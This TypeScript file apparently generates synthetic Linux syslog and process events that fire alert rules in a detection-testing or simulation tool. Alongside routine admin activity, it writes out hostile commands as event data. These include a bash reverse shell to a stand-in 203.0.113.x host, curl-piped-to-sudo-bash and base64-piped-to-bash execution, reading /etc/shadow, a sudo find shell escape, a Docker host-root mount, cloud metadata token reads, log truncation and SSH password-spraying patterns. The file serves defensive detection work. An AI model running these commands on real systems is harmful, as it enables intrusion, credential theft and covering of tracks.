/** Alert triggers on Linux by administrators, password guessing and careless scripts. */
import { type Execution, executed, type SyslogLine, sshdAccepted, sshdFailed, sudoCommand, syslog } from '../events/linux.ts';
import { type Acted, type AlertTrigger, auditedHosts, loggedHosts, trigger, triggersOf } from './alert-trigger.ts';

const facing = ['jumpHost', 'webServer', 'cloudMachine'] as const;

const byAdministrator = { by: 'administrator' } as const;
const runsAs = triggersOf<Execution>('linux', (scene, execution) => executed(scene, execution(scene)));
const runs = runsAs({ roles: auditedHosts, ...byAdministrator });
const saysAs = triggersOf<SyslogLine>('linux', (scene, line) => syslog(scene, line(scene)));
const logs = saysAs({ roles: loggedHosts, ...byAdministrator });

const pid = ({ random }: Acted) => random.int(900, 60_000);
const sudo = (scene: Acted, text: string): SyslogLine => ({
  program: 'sudo',
  facility: 'authpriv',
  severity: 'notice',
  pid: pid(scene),
  text,
});
const sshd = (scene: Acted, text: string): SyslogLine => ({ program: 'sshd', facility: 'auth', pid: pid(scene), text });
const shell = (user: string, command: string): Execution => ({
  executable: '/usr/bin/bash',
  args: ['bash', '-c', command],
  user,
  parent: '/usr/sbin/sshd',
});

export const strangers = [
  '203.0.113.24',
  '203.0.113.81',
  '198.51.100.201',
  '192.0.2.144',
  '192.0.2.17',
  '203.0.113.140',
  '198.51.100.233',
] as const;
export const guessedAccounts = [
  'root',
  'admin',
  'oracle',
  'postgres',
  'test',
  'ubuntu',
  'git',
  'deploy',
  'pi',
  'ftpuser',
  'support',
  'backup',
] as const;

/** Failed passwords of one address against one account, paced like a guessing tool. */
function guesses(scene: Acted, from: string, user: string, count: number, everyMs: number) {
  return Array.from({ length: count }, (_, index) => {
    const at = scene.at + index * everyMs;
    return syslog(
      { ...scene, at },
      sshd({ ...scene, at }, sshdFailed(user, from, scene.random.int(30_000, 60_000), user === 'root')),
    );
  });
}

export const linuxTriggers: readonly AlertTrigger[] = [
  logs('sudo-wrong-passwords', 'low', 18, (scene) =>
    sudo(
      scene,
      `${scene.person.account.padStart(8)} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/${scene.person.account} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`,
    ),
  ),
  logs('su-to-root-failed', 'low', 12, (scene) => ({
    program: 'su',
    facility: 'auth',
    severity: 'notice',
    pid: pid(scene),
    text: `FAILED SU (to root) ${scene.person.account} on pts/2`,
  })),
  logs('user-created', 'low', 5, (scene) => {
    const uid = scene.random.int(1_010, 1_090);
    return {
      program: 'useradd',
      facility: 'authpriv',
      pid: pid(scene),
      text: `new user: name=${scene.random.pick(['deploy', 'ci', 'vendor', 'report'])}${scene.random.int(1, 9)}, UID=${uid}, GID=${uid}, home=/home/vendor, shell=/bin/bash, from=/dev/pts/0`,
    };
  }),
  runs('netcat-listener', 'low', 5, ({ person, random }) => ({
    executable: '/usr/bin/nc',
    args: ['nc', '-l', '-p', String(random.int(8_000, 9_999))],
    user: person.account,
    parent: '/usr/bin/bash',
  })),
  runs('setuid-files-searched', 'low', 7, () => ({
    executable: '/usr/bin/find',
    args: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'],
    user: 'root',
    parent: '/usr/local/sbin/baseline-audit',
  })),
  logs('sudo-root-shell', 'medium', 34, (scene) =>
    sudo(scene, sudoCommand(scene.person.account, scene.random.pick(['/usr/bin/bash', '/bin/bash', '/usr/bin/su -']))),
  ),
  saysAs({ roles: loggedHosts })('sudo-user-not-in-sudoers', 'medium', 9, (scene) =>
    sudo(
      scene,
      `${scene.person.account.padStart(8)} : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/${scene.person.account} ; USER=root ; COMMAND=/usr/bin/apt install htop`,
    ),
  ),
  logs('user-added-to-admin-group', 'medium', 4, (scene) => ({
    program: 'usermod',
    facility: 'authpriv',
    pid: pid(scene),
    text: `add '${scene.person.account}' to group '${scene.random.pick(['docker', 'sudo'])}'`,
  })),
  saysAs({ roles: facing, hours: 'any' })('sshd-protocol-anomaly', 'medium', 6, (scene) =>
    sshd(scene, `Bad packet length 1349676916. [preauth] bad packet length from ${scene.random.pick(strangers)}`),
  ),
  saysAs({ ...byAdministrator, roles: ['backupServer', 'scanner', 'resolver'] })(
    'sshd-root-password-logon',
    'medium',
    3,
    (scene) => sshd(scene, sshdAccepted('root', `10.${scene.device.site.network}.1.40`, 51_122, 'password')),
  ),
  trigger('linux/sshd-brute-force', 'medium', 8, { roles: facing, hours: 'any' }, (scene) =>
    guesses(scene, scene.random.pick(strangers), scene.random.pick(guessedAccounts), scene.random.int(15, 19), 12_000),
  ),
  trigger('linux/sshd-password-spraying', 'high', 6, { roles: facing, hours: 'night' }, (scene) => {
    const from = scene.random.pick(strangers);
    return guessedAccounts
      .slice(0, 8)
      .flatMap((user, index) => guesses({ ...scene, at: scene.at + index * 40_000 }, from, user, 1, 0));
  }),
  runs('download-piped-to-shell', 'medium', 7, ({ person }) =>
    shell(person.account, 'curl -fsSL https://install.toolbox.example/setup.sh | sudo bash'),
  ),
  runs('host-firewall-flushed', 'medium', 5, () => ({
    executable: '/usr/sbin/iptables',
    args: ['iptables', '-F'],
    user: 'root',
    parent: '/usr/bin/bash',
  })),
  runs('log-or-history-removed', 'medium', 4, () => ({
    executable: '/usr/bin/truncate',
    args: ['truncate', '-s', '0', '/var/log/syslog'],
    user: 'root',
    parent: '/usr/bin/bash',
  })),
  runs('data-archived-from-system-folders', 'medium', 6, () => ({
    executable: '/usr/bin/tar',
    args: ['tar', 'czf', '/tmp/move-www.tgz', '/var/www'],
    user: 'root',
    parent: '/usr/bin/bash',
  })),
  runs('cloud-metadata-read', 'medium', 5, ({ person }) => ({
    executable: '/usr/bin/curl',
    args: [
      'curl',
      '-s',
      '-H',
      'Metadata: true',
      'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.example',
    ],
    user: person.account,
    parent: '/usr/bin/bash',
  })),
  runs('program-from-temporary-folder', 'medium', 4, ({ person }) => ({
    executable: '/tmp/.build-cache/run',
    args: ['/tmp/.build-cache/run', '--once'],
    user: person.account,
    parent: '/usr/bin/make',
  })),
  logs('sudo-reads-secrets', 'high', 5, (scene) => sudo(scene, sudoCommand(scene.person.account, '/usr/bin/cat /etc/shadow'))),
  logs('sudo-shell-escape', 'high', 2, (scene) =>
    sudo(scene, sudoCommand(scene.person.account, '/usr/bin/find /srv -name old -exec /bin/sh')),
  ),
  logs('sudo-changes-privileges', 'high', 3, (scene) =>
    sudo(scene, sudoCommand(scene.person.account, '/usr/bin/tee /etc/sudoers.d/90-deploy')),
  ),
  logs('cron-runs-download-or-temp', 'high', 3, (scene) => ({
    program: 'CRON',
    facility: 'cron',
    pid: pid(scene),
    text: '(root) CMD (/bin/sh /tmp/rotate-reports.sh >/dev/null 2>&1)',
  })),
  runs('authorized-keys-changed-by-command', 'high', 4, ({ person }) =>
    shell(person.account, `cat /tmp/new-laptop.pub >> /home/${person.account}/.ssh/authorized_keys`),
  ),
  runs('base64-piped-to-shell', 'high', 2, ({ person }) =>
    shell(person.account, 'echo c3lzdGVtY3RsIHJlc3RhcnQgbmdpbng= | base64 -d | bash'),
  ),
  runs('container-escape-mount', 'high', 2, ({ person }) => ({
    executable: '/usr/bin/docker',
    args: ['docker', 'run', '--rm', '-v', '/:/host', 'registry.example/backup:3', 'backup', '/host'],
    user: person.account,
    parent: '/usr/bin/bash',
  })),
  runs('privilege-escalation-script', 'high', 3, ({ person }) => ({
    executable: '/usr/bin/bash',
    args: ['bash', './linpeas.sh', '-a'],
    user: person.account,
    parent: '/usr/bin/bash',
  })),
  runsAs({ ...byAdministrator, roles: ['webServer'], hours: 'any' })('web-server-starts-shell', 'high', 3, () => ({
    executable: '/usr/bin/id',
    args: ['id'],
    user: 'www-data',
    parent: '/usr/bin/dash',
    directory: '/var/www/html',
    terminal: '(none)',
  })),
  runsAs({ ...byAdministrator, roles: ['webServer', 'cloudMachine'], hours: 'night' })(
    'reverse-shell',
    'critical',
    1,
    ({ random }) => shell('www-data', `bash -i >& /dev/tcp/203.0.113.${random.int(30, 60)}/4444 0>&1`),
  ),
];
